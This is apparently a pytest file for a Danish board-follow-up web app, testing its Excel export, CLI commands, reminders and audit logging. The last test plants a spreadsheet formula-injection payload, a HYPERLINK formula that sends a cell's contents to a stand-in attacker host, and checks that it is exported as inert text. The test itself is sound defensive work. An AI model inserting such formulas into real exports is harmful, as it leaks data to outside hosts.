from __future__ import annotations

import datetime as dt
import io

import typer
from openpyxl import load_workbook
from typer.testing import CliRunner

from ledelsesrum.accounts.models import AuditEvent
from ledelsesrum.followup import decisions
from ledelsesrum.followup.cli import register


def _cli_app() -> typer.Typer:
    app = typer.Typer()
    register(app)

    @app.callback()
    def _root() -> None:  # keeps "followup" a sub-command even when it is the only one
        pass

    return app


def _populate(study, adopted):
    rejected = decisions.add_recommendation(study, subtheme="5a", text="Flyt stabene tættere på.")
    decisions.record_decision(rejected, outcome="rejected", reason="Ny organisering på vej")
    decisions.add_action(adopted, title="Delegér budget", owner_name="Økonomichef", owner_email="o@k.dk",
                         deadline=dt.date(2020, 1, 1), scale_codes=["RAADERUM", "OEKONOMI"])


def test_the_xlsx_export_reads_back_with_all_three_sheets(board_client, study, adopted):
    _populate(study, adopted)
    response = board_client.get(f"/undersoegelser/{study.pk}/opfoelgning/eksport.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["Anbefalinger", "Beslutninger", "Handlinger"]
    recs = list(wb["Anbefalinger"].iter_rows(values_only=True))
    assert len(recs) == 3 and {r[2] for r in recs[1:]} == {"1d", "5a"}
    decisions_rows = list(wb["Beslutninger"].iter_rows(values_only=True))
    assert {r[2] for r in decisions_rows[1:]} == {"Vedtaget", "Afvist"}
    assert "Ny organisering på vej" in {r[3] for r in decisions_rows[1:]}
    header, *rows = wb["Handlinger"].iter_rows(values_only=True)
    action = dict(zip(header, rows[0], strict=True))
    assert action["Handling"] == "Delegér budget" and action["Status"] == "Planlagt"
    assert action["Overskredet"] == "Ja" and action["Skalaer"] == "RAADERUM, OEKONOMI"
    assert action["Ansvarlig"] == "Økonomichef"
    # The board reader's copy names the responsible role but carries no e-mails or user names.
    assert "E-mail" not in header and "Registreret af" not in decisions_rows[0]
    assert "o@k.dk" not in str(list(wb["Handlinger"].iter_rows(values_only=True)))
    event = AuditEvent.objects.get(action="followup.export")
    assert event.study_id == study.pk and event.username == "bob"


def test_the_analysts_export_carries_the_owners_e_mail(analyst_client, study, adopted):
    _populate(study, adopted)
    response = analyst_client.get(f"/undersoegelser/{study.pk}/opfoelgning/eksport.xlsx")
    wb = load_workbook(io.BytesIO(response.content))
    header, *rows = wb["Handlinger"].iter_rows(values_only=True)
    assert dict(zip(header, rows[0], strict=True))["E-mail"] == "o@k.dk"
    assert "Registreret af" in next(wb["Beslutninger"].iter_rows(values_only=True))


def test_the_cli_exports_and_refuses_an_unknown_study(study, adopted, tmp_path):
    app = _cli_app()
    _populate(study, adopted)
    target = tmp_path / "opf.xlsx"
    runner = CliRunner()
    ok = runner.invoke(app, ["followup", "export", "--study", str(study.pk), "--output", str(target)])
    assert ok.exit_code == 0, ok.output
    assert load_workbook(target)["Handlinger"].max_row == 2
    bad = runner.invoke(app, ["followup", "export", "--study", "999999", "--output", str(tmp_path / "x.xlsx")])
    assert bad.exit_code == 1 and "Der findes ingen undersøgelse" in bad.output
    assert not (tmp_path / "x.xlsx").exists()
    assert AuditEvent.objects.filter(action="followup.export").count() == 1


def test_the_cli_sends_reminders(study, adopted):
    from django.core import mail

    app = _cli_app()
    decisions.add_action(adopted, title="Gammel", owner_name="K", owner_email="k@k.dk", deadline=dt.date(2020, 1, 1))
    result = CliRunner().invoke(app, ["followup", "remind"])
    assert result.exit_code == 0, result.output
    assert len(mail.outbox) == 1 and "Sendte 1" in result.output


def test_an_action_title_that_looks_like_a_formula_stays_text(analyst_client, board_client, study,
                                                               adopted):
    """Issue 10, finding 5: an action title ``=HYPERLINK(…)`` was a live formula in both copies."""
    evil = '=HYPERLINK("https://angriber.example/?"&B2,"Se handleplan")'
    decisions.add_action(adopted, title=evil, owner_name="@Direktør", owner_email="d@k.dk",
                         deadline=dt.date(2030, 1, 1), scale_codes=[])
    for client in (analyst_client, board_client):
        wb = load_workbook(io.BytesIO(
            client.get(f"/undersoegelser/{study.pk}/opfoelgning/eksport.xlsx").content))
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert evil in {c.value for c in cells}
